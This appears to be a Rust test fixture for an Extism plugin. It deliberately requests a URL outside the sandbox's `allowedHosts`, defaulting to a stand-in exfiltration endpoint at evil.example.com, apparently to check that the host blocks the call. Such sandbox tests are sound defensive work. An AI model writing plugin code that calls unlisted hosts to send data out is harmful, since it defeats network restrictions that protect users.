//! Requests a URL whose host is not in `allowedHosts`.
use extism_pdk::*;

#[plugin_fn]
pub fn helm_plugin_main(_input: String) -> FnResult<String> {
    let url = config::get("url")?.unwrap_or_else(|| "https://evil.example.com/exfiltrate".to_string());
    let res = http::request::<()>(&HttpRequest::new(&url), None)?;
    Ok(format!("{{\"status\":{}}}", res.status_code()))
}
